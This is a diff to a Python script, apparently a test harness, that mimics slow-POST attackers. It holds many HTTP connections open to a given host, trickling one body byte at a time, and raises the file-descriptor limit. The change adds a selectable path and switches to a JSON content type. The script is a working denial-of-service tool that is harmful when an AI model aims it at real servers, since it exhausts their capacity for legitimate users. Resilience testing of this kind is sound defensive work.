@@ -1,7 +1,7 @@
 """Slow-body clients, as an attacker holds them: N connections to HOST, each sending a POST's
 headers with a large Content-Length and then one byte of the body at a time.
 
-    python3 slow_bodies.py HOST N SECONDS
+    python3 slow_bodies.py HOST N SECONDS [PATH]
 
 Prints `open N` once every connection has sent its headers, then keeps them until SECONDS
 have passed or a line arrives on stdin, closes them all, and prints `closed`. Run inside a
@@ -15,9 +15,10 @@ import threading
 import time
 
 host, count, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
+path = sys.argv[4] if len(sys.argv) > 4 else "/airbnb-onepage/"
 HEAD = (
-    f"POST /airbnb-onepage/ HTTP/1.1\r\nHost: {host}\r\n"
-    "Content-Type: application/octet-stream\r\nContent-Length: 100000\r\n\r\n"
+    f"POST {path} HTTP/1.1\r\nHost: {host}\r\n"
+    "Content-Type: application/json\r\nContent-Length: 100000\r\n\r\n"
 ).encode()
 
 # One descriptor a connection: more than the usual soft limit (1,024) may be asked for.
@@ -27,7 +28,7 @@ resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
 connections = []
 for _ in range(count):
     connection = socket.create_connection((host, 80), timeout=10)
-    connection.sendall(HEAD + b"x")
+    connection.sendall(HEAD + b" ")
     connections.append(connection)
 print(f"open {len(connections)}", flush=True)
 
@@ -38,7 +39,7 @@ deadline = time.monotonic() + seconds
 while not stop.wait(4) and time.monotonic() < deadline:
     for connection in connections:
         try:
-            connection.sendall(b"x")
+            connection.sendall(b" ")
         except OSError:
             pass
 for connection in connections:
